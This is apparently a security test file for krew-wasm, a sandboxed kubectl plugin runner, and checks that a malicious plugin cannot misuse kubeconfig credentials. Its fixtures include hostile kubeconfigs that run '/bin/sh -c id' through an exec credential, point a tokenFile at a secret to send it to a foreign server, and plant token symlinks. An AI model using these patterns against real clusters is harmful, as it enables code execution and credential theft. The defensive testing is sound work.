import test from 'ava';
import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { FIXTURES, krewWasm, makeSandbox, runProcess, theError, type Outcome, type Sandbox } from '../helpers/cli.js';
import { startFakeApiServer, type FakeApiServer } from '../../testkit/kubeApiServer.js';
import { createPki, type TestPki } from '../../testkit/pki.js';

// Kubeconfig credentials as an attacker plugin sees them (issue 13): the plugin runs with the
// default grants (HOME read-write), so it can rewrite ~/.kube/config, a token file or an exec
// plugin during its run; and credential sources that never end (a FIFO, /dev/zero, an exec plugin
// that sleeps or leaves a child behind). Each case ends within its bound with one line, and
// nothing runs, is read or is sent that the user did not configure before the run.

let pki: TestPki;
let api: FakeApiServer;
let bystander: http.Server;
const bystanderSeen: string[] = [];
let bystanderUrl: string;
let sb: Sandbox;
let kube: string;
/** A folder outside the kubeconfig's, granted read-write to probe-w and read-only to probe-ro. */
let work: string;
let originalConfig: string;

const exitedCredential = (token: string) =>
  `echo '{"apiVersion":"client.authentication.k8s.io/v1","kind":"ExecCredential","status":{"token":"${token}"}}'`;

test.before(async () => {
  pki = createPki();
  api = await startFakeApiServer({
    tls: { ...pki.server('apiserver'), ca: pki.caCert },
    tokens: { 'tok-alice': 'alice', 'tok-file': 'file-user', 'tok-exec': 'exec-user' },
  });
  bystander = http.createServer((req, res) => {
    bystanderSeen.push(`${req.url} ${req.headers.authorization ?? ''}`);
    res.end('bystander');
  });
  await new Promise<void>((resolve) => bystander.listen(0, '127.0.0.1', resolve));
  bystanderUrl = `http://127.0.0.1:${(bystander.address() as AddressInfo).port}`;
  sb = makeSandbox();
  work = path.join(sb.home, 'work');
  fs.mkdirSync(path.join(work, 'kro'), { recursive: true });
  kube = path.join(sb.home, '.kube');
  fs.mkdirSync(kube, { recursive: true });
  const pulls = [
    ['probe', []], ['probe-t', ['--timeout', '3']], ['probe-w', ['--fs', 'none', '--allow-dir', work]], ['probe-ro', ['--fs', 'none', '--allow-dir', `${work}:ro`]],
    // Read-only folders inside a read-write grant, the README's way to keep a kubeconfig from a plugin.
    ['probe-nested', ['--fs', 'none', '--allow-dir', work, '--allow-dir', `${path.join(work, 'kro')}:ro`]], ['probe-kro', ['--allow-dir', `${kube}:ro`]],
  ] as const;
  for (const [name, flags] of pulls) {
    const r = await krewWasm(sb, ['pull', `file://${path.join(FIXTURES, 'httpprobe.wasm')}`, '--name', name, ...flags]);
    if (r.exitCode !== 0) throw new Error(r.stderr);
  }
  fs.copyFileSync(pki.caCert, path.join(kube, 'ca.crt'));
  fs.writeFileSync(path.join(kube, 'token'), 'tok-file\n');
  fs.writeFileSync(path.join(sb.home, 'secret.txt'), 'THE-SECRET');
  const carol = pki.client('carol');
  fs.copyFileSync(carol.cert, path.join(kube, 'client.crt'));
  fs.copyFileSync(pki.client('dave').key, path.join(kube, 'other.key'));
  fs.writeFileSync(path.join(kube, 'junk.key'), 'junk');
  fs.writeFileSync(path.join(work, 'token'), 'tok-file\n');
  fs.writeFileSync(path.join(work, 'exec-ok.sh'), `#!/bin/sh\necho run >> "${work}/exec.runs"\n${exitedCredential('tok-exec')}\n`, { mode: 0o755 });
  fs.writeFileSync(path.join(kube, 'big-token'), Buffer.alloc(2 * 1024 * 1024, 'a'));
  fs.mkdirSync(path.join(kube, 'token-dir'));
  execFileSync('mkfifo', [path.join(kube, 'ca.fifo')]);
  execFileSync('mkfifo', [path.join(kube, 'config.fifo')]);
  const script = (name: string, body: string) => fs.writeFileSync(path.join(kube, name), `#!/bin/sh\n${body}\n`, { mode: 0o755 });
  script('exec-ok.sh', `echo run >> "${kube}/exec-ok.runs"\n${exitedCredential('tok-exec')}`);
  // Sleeps in a child, so that ending only the exec process would not be enough.
  script('exec-sleep.sh', `echo $$ > "${kube}/sleep.pid"\nsleep 60 &\necho $! > "${kube}/sleep-child.pid"\nwait\n${exitedCredential('tok-exec')}`);
  // Leaves a child holding stdout open for a minute after printing its credential (its stderr
  // goes elsewhere, or it would hold the test's own pipe from krew-wasm's inherited stderr).
  script('exec-bg.sh', `sleep 60 2>/dev/null &\necho $! > "${kube}/bg.pid"\n${exitedCredential('tok-exec')}`);
  script('exec-spew.sh', 'head -c 3000000 /dev/zero | tr "\\000" a');
  originalConfig = `apiVersion: v1
kind: Config
current-context: token
clusters:
- {name: fake, cluster: {server: '${api.url}', certificate-authority: ca.crt}}
- {name: fifo-ca, cluster: {server: '${api.url}', certificate-authority: ca.fifo}}
users:
- {name: alice, user: {token: tok-alice}}
- {name: file-user, user: {tokenFile: token}}
- {name: zero, user: {tokenFile: /dev/zero}}
- {name: dir, user: {tokenFile: token-dir}}
- {name: big, user: {tokenFile: big-token}}
- {name: exec-ok, user: {exec: {apiVersion: client.authentication.k8s.io/v1, command: ./exec-ok.sh}}}
- {name: exec-sleep, user: {exec: {apiVersion: client.authentication.k8s.io/v1, command: ./exec-sleep.sh}}}
- {name: exec-bg, user: {exec: {apiVersion: client.authentication.k8s.io/v1, command: ./exec-bg.sh}}}
- {name: exec-spew, user: {exec: {apiVersion: client.authentication.k8s.io/v1, command: ./exec-spew.sh}}}
- {name: junk-key, user: {client-certificate: client.crt, client-key: junk.key, token: tok-alice}}
- {name: lone-key, user: {client-key: junk.key, token: tok-alice}}
- {name: not-its-key, user: {client-certificate: client.crt, client-key: other.key}}
- {name: work-token, user: {tokenFile: '${work}/token'}}
- {name: work-exec, user: {exec: {apiVersion: client.authentication.k8s.io/v1, command: '${work}/exec-ok.sh'}}}
contexts:
- {name: token, context: {cluster: fake, user: alice}}
- {name: token-file, context: {cluster: fake, user: file-user}}
- {name: fifo-ca, context: {cluster: fifo-ca, user: alice}}
- {name: zero, context: {cluster: fake, user: zero}}
- {name: dir, context: {cluster: fake, user: dir}}
- {name: big, context: {cluster: fake, user: big}}
- {name: exec-ok, context: {cluster: fake, user: exec-ok}}
- {name: exec-sleep, context: {cluster: fake, user: exec-sleep}}
- {name: exec-bg, context: {cluster: fake, user: exec-bg}}
- {name: exec-spew, context: {cluster: fake, user: exec-spew}}
- {name: junk-key, context: {cluster: fake, user: junk-key}}
- {name: lone-key, context: {cluster: fake, user: lone-key}}
- {name: not-its-key, context: {cluster: fake, user: not-its-key}}
- {name: work-token, context: {cluster: fake, user: work-token}}
- {name: work-exec, context: {cluster: fake, user: work-exec}}
- {name: work-token-k2, context: {cluster: k2, user: work-token}}
`;
  fs.writeFileSync(path.join(kube, 'config'), originalConfig);
});

test.afterEach.always(() => {
  fs.writeFileSync(path.join(kube, 'config'), originalConfig);
  fs.writeFileSync(path.join(kube, 'token'), 'tok-file\n');
});

test.after.always(async () => {
  for (const f of ['sleep.pid', 'sleep-child.pid', 'bg.pid']) {
    const pid = readPid(f);
    if (pid) try { process.kill(pid, 'SIGKILL'); } catch { /* gone */ }
  }
  await api?.stop();
  bystander?.close();
  sb?.cleanup();
  if (pki) fs.rmSync(pki.dir, { recursive: true, force: true });
});

/** Runs a probe; a run that a credential source holds is killed after 30 s, which fails the test. */
async function probe(name: string, args: string[], env: NodeJS.ProcessEnv = {}): Promise<Outcome & { lines: string[] }> {
  const link = path.join(sb.root, 'bin', `kubectl-${name.replace(/-/g, '_')}`);
  const r = await runProcess(link, args, { cwd: sb.home, env: { ...sb.env, ...env }, timeoutMs: 30_000 });
  return { ...r, lines: r.stdout.trim().split('\n') };
}

const userOf = (line: string) => /"user":"([^"]*)"/.exec(line)?.[1];
const readPid = (file: string) => (fs.existsSync(path.join(kube, file)) ? Number(fs.readFileSync(path.join(kube, file), 'utf8')) : undefined);

/** True once the process is gone (or a zombie waiting to be reaped), polling for up to 5 s. */
async function ended(pid: number | undefined): Promise<boolean> {
  if (!pid) return false;
  for (let i = 0; i < 50; i++) {
    let state: string | undefined;
    try {
      state = fs.readFileSync(`/proc/${pid}/stat`, 'utf8').split(') ')[1]?.[0];
    } catch {
      return true;
    }
    if (state === 'Z') return true;
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
  return false;
}

test.serial('a plugin that rewrites ~/.kube/config mid-run with an exec command and another server: nothing runs, nothing goes there', async (t) => {
  const marker = path.join(sb.home, 'pwned');
  const hostile = `apiVersion: v1
kind: Config
current-context: evil
clusters: [{name: evil, cluster: {server: '${bystanderUrl}'}}]
users: [{name: evil, user: {exec: {apiVersion: client.authentication.k8s.io/v1, command: /bin/sh, args: [-c, 'id > ${marker}']}}}]
contexts: [{name: evil, context: {cluster: evil, user: evil}}]
`;
  const r = await probe('probe', ['write', path.join(kube, 'config'), hostile, 'get', '/api/v1/echo', 'get', `${bystanderUrl}/stolen`]);
  t.is(r.lines[0], `write ${path.join(kube, 'config')}: OK`);
  t.is(userOf(r.lines[1]), 'alice', 'the request went to the API server configured before the run, as the user configured then');
  t.is(r.lines[2], `get ${bystanderUrl}/stolen -> err destination-not-allowed`);
  t.false(fs.existsSync(marker), 'the exec command the plugin wrote did not run');
  t.deepEqual(bystanderSeen, []);
  t.is(r.stderr, '');
  // Settling protects the current run only: the next run (like the next kubectl) reads the changed file.
  fs.writeFileSync(path.join(kube, 'config'), hostile);
  await probe('probe', ['get', '/x']);
  t.true(fs.existsSync(marker), 'a later run uses the kubeconfig as it is then, as kubectl would');
  fs.rmSync(marker);
  bystanderSeen.length = 0;
});

test.serial('a plugin that rewrites ~/.kube/config mid-run with a tokenFile outside its reach: the file is neither read nor sent', async (t) => {
  const hostile = `apiVersion: v1
kind: Config
current-context: evil
clusters: [{name: evil, cluster: {server: '${bystanderUrl}'}}]
users: [{name: evil, user: {tokenFile: ${path.join(sb.home, 'secret.txt')}}}]
contexts: [{name: evil, context: {cluster: evil, user: evil}}]
`;
  const before = api.requests.length;
  const r = await probe('probe', ['write', path.join(kube, 'config'), hostile, 'get', '/api/v1/echo', 'get', `${bystanderUrl}/`]);
  t.is(userOf(r.lines[1]), 'alice');
  t.is(r.lines[2], `get ${bystanderUrl}/ -> err destination-not-allowed`);
  t.deepEqual(bystanderSeen, []);
  t.false(api.requests.slice(before).some((q) => q.authorization?.includes('THE-SECRET')));
});

test.serial('a plugin that rewrites its tokenFile mid-run: the token read before the run is sent', async (t) => {
  const r = await probe('probe', ['write', path.join(kube, 'token'), 'tok-alice', 'get', '/api/v1/echo', '--context', 'token-file']);
  t.is(r.lines[0], `write ${path.join(kube, 'token')}: OK`);
  t.is(userOf(r.lines[1]), 'file-user');
  t.is(api.requests.at(-1)?.authorization, 'Bearer tok-file');
});

test.serial('a plugin that rewrites the exec credential program mid-run: it is not run, one note', async (t) => {
  const marker = path.join(sb.home, 'pwned-exec');
  const program = path.join(kube, 'exec-ok.sh');
  const original = fs.readFileSync(program, 'utf8');
  t.teardown(() => fs.writeFileSync(program, original));
  const r = await probe('probe', ['write', program, `#!/bin/sh\nid > ${marker}\n${exitedCredential('tok-exec')}\n`, 'get', '/api/v1/echo', '--context', 'exec-ok']);
  t.is(r.lines[0], `write ${program}: OK`);
  t.is(r.lines[1], 'get /api/v1/echo -> err runtime-error');
  t.false(fs.existsSync(marker));
  t.is(r.stderr, `krew-wasm: exec credential plugin ${program} changed after the plugin started; it was not run: requests of plugin probe fail\n`);
  t.is(r.exitCode, 0);
});

test.serial('an exec plugin that sleeps, under --timeout 3: the run ends with one line and the exec plugin\'s whole group is ended', async (t) => {
  const r = await probe('probe-t', ['get', '/api/v1/echo', '--context', 'exec-sleep']);
  t.is(r.signal, null, 'the run ended on its own');
  t.is(r.exitCode, 124);
  t.is(theError(r.stderr), 'krew-wasm: error: plugin probe-t exceeded its time limit of 3 s (krew-wasm grant probe-t --timeout <seconds>)');
  t.true(await ended(readPid('sleep.pid')), 'the exec plugin was ended');
  t.true(await ended(readPid('sleep-child.pid')), 'and its child with it');
});

test.serial('an exec plugin that sleeps, without --timeout: the credential limit (KREW_WASM_CREDENTIAL_TIMEOUT_MS) ends its group, one note', async (t) => {
  const r = await probe('probe', ['get', '/api/v1/echo', 'get', '/version', '--context', 'exec-sleep'], { KREW_WASM_CREDENTIAL_TIMEOUT_MS: '1500' });
  t.is(r.signal, null);
  t.is(r.exitCode, 0);
  t.is(r.lines[0], 'get /api/v1/echo -> err runtime-error');
  t.is(r.lines[1], 'get /version -> err runtime-error', 'the failure is kept for the run: the exec plugin runs once');
  t.is(r.stderr, `krew-wasm: exec credential plugin ${path.join(kube, 'exec-sleep.sh')} did not finish within 1.5 s; its process group was ended: requests of plugin probe fail\n`);
  t.true(await ended(readPid('sleep.pid')));
  t.true(await ended(readPid('sleep-child.pid')));
});

test.serial('an exec plugin that leaves a child holding stdout: its credential is used and the run does not wait for the child', async (t) => {
  const r = await probe('probe', ['get', '/api/v1/echo', '--context', 'exec-bg']);
  t.is(r.signal, null, 'not held by the background child (it sleeps for 60 s)');
  t.is(userOf(r.lines[0]), 'exec-user');
  const child = readPid('bg.pid')!;
  t.notThrows(() => process.kill(child, 0), 'the child is left alone, as kubectl leaves it');
  process.kill(child, 'SIGKILL');
});

test.serial('an exec plugin that prints without end: bounded at 1 MiB, its group ended, one note', async (t) => {
  const r = await probe('probe', ['get', '/api/v1/echo', '--context', 'exec-spew']);
  t.is(r.lines[0], 'get /api/v1/echo -> err runtime-error');
  t.is(r.stderr, `krew-wasm: exec credential plugin ${path.join(kube, 'exec-spew.sh')} printed more than 1048576 bytes; its process group was ended: requests of plugin probe fail\n`);
});

const badFiles: [string, string, () => string][] = [
  ['a certificate-authority that is a FIFO', 'fifo-ca', () => `certificate-authority ${path.join(kube, 'ca.fifo')} is not a regular file (a FIFO)`],
  ['a tokenFile that is /dev/zero', 'zero', () => 'tokenFile /dev/zero is not a regular file (a character device)'],
  ['a tokenFile that is a directory', 'dir', () => `tokenFile ${path.join(kube, 'token-dir')} is not a regular file (a directory)`],
  ['a tokenFile over 1 MiB', 'big', () => `tokenFile ${path.join(kube, 'big-token')} is larger than 1048576 bytes`],
  ['a client key that holds no PEM private key', 'junk-key', () => `client-key ${path.join(kube, 'junk.key')} holds no PEM-encoded private key`],
];

test.serial('a token file in a folder the plugin may write (not the kubeconfig\'s) is not read, one note; granted read-only, it is sent', async (t) => {
  // There the plugin chooses what the name is: a symlink to another user's token file, which it cannot read, would be sent.
  const before = api.requests.length;
  const writable = await probe('probe-w', ['get', '/api/v1/echo', '--context', 'work-token']);
  t.is(writable.signal, null);
  t.is(writable.lines[0], 'get /api/v1/echo -> err runtime-error');
  t.is(writable.stderr, `krew-wasm: tokenFile ${work}/token is reached through ${work}, a folder the plugin may write: requests of plugin probe-w fail\n`);
  t.is(api.requests.length, before);
  const readOnly = await probe('probe-ro', ['get', '/api/v1/echo', '--context', 'work-token']);
  t.is(readOnly.stderr, '');
  t.is(userOf(readOnly.lines[0]), 'file-user');
});

test.serial('a kubeconfig the plugin may write that decides nothing (its entries come after) does not lift the check; one that decides does', async (t) => {
  // Writing a later KUBECONFIG file gained the plugin nothing but skipped the check (found by an attack).
  fs.writeFileSync(path.join(work, 'later.yaml'), 'apiVersion: v1\nkind: Config\nusers: [{name: work-token, user: {token: nothing}}]\n');
  const later = await probe('probe-w', ['get', '/api/v1/echo', '--context', 'work-token'], { KUBECONFIG: `${path.join(kube, 'config')}:${path.join(work, 'later.yaml')}` });
  t.is(later.stderr, `krew-wasm: tokenFile ${work}/token is reached through ${work}, a folder the plugin may write: requests of plugin probe-w fail\n`);
  // One that picks the cluster alone does not pick the user (found by an attack).
  fs.writeFileSync(path.join(work, 'cluster.yaml'), `apiVersion: v1\nkind: Config\nclusters: [{name: k2, cluster: {server: '${api.url}', certificate-authority: '${path.join(kube, 'ca.crt')}'}}]\n`);
  const cluster = await probe('probe-w', ['get', '/api/v1/echo', '--context', 'work-token-k2'], { KUBECONFIG: `${path.join(kube, 'config')}:${path.join(work, 'cluster.yaml')}` });
  t.is(cluster.stderr, `krew-wasm: tokenFile ${work}/token is reached through ${work}, a folder the plugin may write: requests of plugin probe-w fail\n`);
  // A first file it may write decides everything: what the README says of a writable kubeconfig.
  fs.writeFileSync(path.join(work, 'first.yaml'), 'apiVersion: v1\nkind: Config\n');
  const first = await probe('probe-w', ['get', '/api/v1/echo', '--context', 'work-token'], { KUBECONFIG: `${path.join(work, 'first.yaml')}:${path.join(kube, 'config')}` });
  t.is(first.stderr, '');
  t.is(userOf(first.lines[0]), 'file-user');
});

test.serial('a kubeconfig in a read-only folder inside a read-write grant is one the plugin cannot write: the check holds, and what the read-only folder keeps is read', async (t) => {
  // Counted as writable, it lifted the check for the token file beside it (found by an attack).
  const kro = path.join(work, 'kro', 'config');
  fs.writeFileSync(kro, `apiVersion: v1\nkind: Config\ncurrent-context: w\nclusters: [{name: fake, cluster: {server: '${api.url}', certificate-authority: '${path.join(kube, 'ca.crt')}'}}]\nusers: [{name: w, user: {tokenFile: '${work}/token'}}]\ncontexts: [{name: w, context: {cluster: fake, user: w}}]\n`);
  const nested = await probe('probe-nested', ['get', '/api/v1/echo'], { KUBECONFIG: kro });
  t.is(nested.stderr, `krew-wasm: tokenFile ${work}/token is reached through ${work}, a folder the plugin may write: requests of plugin probe-nested fail\n`);
  // A link in the read-only folder may have been planted while the plugin could write it: not followed (found by an attack).
  const planted = path.join(work, 'kro', 'planted-token');
  fs.symlinkSync(path.join(kube, 'token'), planted);
  const outside = path.join(sb.home, 'outside.yaml');
  fs.writeFileSync(outside, `apiVersion: v1\nkind: Config\ncurrent-context: p\nclusters: [{name: fake, cluster: {server: '${api.url}', certificate-authority: '${path.join(kube, 'ca.crt')}'}}]\nusers: [{name: p, user: {tokenFile: '${planted}'}}]\ncontexts: [{name: p, context: {cluster: fake, user: p}}]\n`);
  const link = await probe('probe-nested', ['get', '/api/v1/echo'], { KUBECONFIG: outside });
  t.is(link.stderr, `krew-wasm: tokenFile ${planted} is reached through ${work}, a folder the plugin may write: requests of plugin probe-nested fail\n`);
  // --fs home with ~/.kube read-only: the token file in ~/.kube is out of the plugin's hands, and sent.
  const home = await probe('probe-kro', ['get', '/api/v1/echo', '--context', 'token-file']);
  t.is(home.stderr, '');
  t.is(userOf(home.lines[0]), 'file-user');
});

test.serial('an exec credential plugin in a folder the plugin may write is not run, one note', async (t) => {
  const runs = path.join(work, 'exec.runs');
  const r = await probe('probe-w', ['get', '/api/v1/echo', '--context', 'work-exec']);
  t.is(r.lines[0], 'get /api/v1/echo -> err runtime-error');
  t.is(r.stderr, `krew-wasm: exec credential plugin ${work}/exec-ok.sh is reached through ${work}, a folder the plugin may write; it was not run: requests of plugin probe-w fail\n`);
  t.false(fs.existsSync(runs));
  const readOnly = await probe('probe-ro', ['get', '/api/v1/echo', '--context', 'work-exec']);
  t.is(userOf(readOnly.lines[0]), 'exec-user');
  t.true(fs.existsSync(runs));
});

test.serial('a client key without its certificate is not presented (as kubectl): the token is sent', async (t) => {
  const r = await probe('probe', ['get', '/api/v1/echo', '--context', 'lone-key']);
  t.is(r.stderr, '');
  t.is(userOf(r.lines[0]), 'alice');
});

test.serial('a client certificate with a key that is not its own: the request fails when it is made, not at its timeout', async (t) => {
  // Node refuses the pair when it makes the connection, in the HTTP worker; the run is killed after 30 s otherwise.
  const r = await probe('probe', ['get', '/api/v1/echo', '--context', 'not-its-key']);
  t.is(r.signal, null);
  t.is(r.exitCode, 0);
  t.regex(r.lines[0], /^get \/api\/v1\/echo -> err /);
});

for (const [title, context, message] of badFiles) {
  test.serial(`${title}: one note naming the file, the request fails, the run goes on`, async (t) => {
    const r = await probe('probe', ['get', '/api/v1/echo', '--context', context]);
    t.is(r.signal, null);
    t.is(r.exitCode, 0);
    t.is(r.lines[0], 'get /api/v1/echo -> err runtime-error');
    t.is(r.stderr, `krew-wasm: ${message()}: requests of plugin probe fail\n`);
  });
}

test.serial('a kubeconfig that is a FIFO: one note naming it, requests refused', async (t) => {
  const fifo = path.join(kube, 'config.fifo');
  const r = await probe('probe', ['get', '/version'], { KUBECONFIG: fifo });
  t.is(r.signal, null);
  t.is(r.lines[0], 'get /version -> err destination-not-allowed');
  t.is(r.stderr, `krew-wasm: kubeconfig ${fifo} is not a regular file (a FIFO): requests of plugin probe are refused\n`);
});

test.serial('network not granted: the note names the command that grants it, and following it works', async (t) => {
  t.is((await krewWasm(sb, ['grant', 'probe', '--network', 'none'])).exitCode, 0);
  const denied = await probe('probe', ['get', '/api/v1/echo']);
  t.is(denied.lines[0], 'get /api/v1/echo -> err destination-not-allowed');
  t.is(denied.stderr, 'krew-wasm: network access is not granted to plugin probe (krew-wasm grant probe --network api-server)\n');
  const hint = /\((krew-wasm grant [^)]*)\)/.exec(denied.stderr)![1].split(' ').slice(1);
  t.is((await krewWasm(sb, hint)).exitCode, 0);
  const allowed = await probe('probe', ['get', '/api/v1/echo']);
  t.is(userOf(allowed.lines[0]), 'alice');
});
